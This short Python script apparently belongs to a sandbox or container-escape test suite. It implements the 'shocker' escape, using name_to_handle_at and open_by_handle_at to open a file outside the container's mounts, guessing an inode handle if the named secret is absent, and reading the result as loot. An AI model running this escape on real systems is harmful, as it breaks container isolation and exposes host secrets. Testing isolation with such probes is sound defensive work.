"""Open files by their handles, from outside of every mount (the shocker escape)."""

# aims: secret
# control: harms (root)
import ctypes
import os
import struct

from attack import call, cannot, loot, said, target, tried

mount = os.open(".", os.O_RDONLY)
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 256)
number = ctypes.c_int()
result = call("name_to_handle_at", -100, os.fsencode(target["secret"]), handle, ctypes.byref(number), 0)
if result == -95:
    cannot("this file system has no handles")
if result < 0:
    # The secret is not there: any inode number of the file system will do.
    struct.pack_into("Iiq", handle, 0, 8, 1, 2)
tried()
found = call("open_by_handle_at", mount, handle, os.O_RDONLY)
print(said(found))
if found >= 0 and result >= 0:
    loot(os.read(found, 4096))
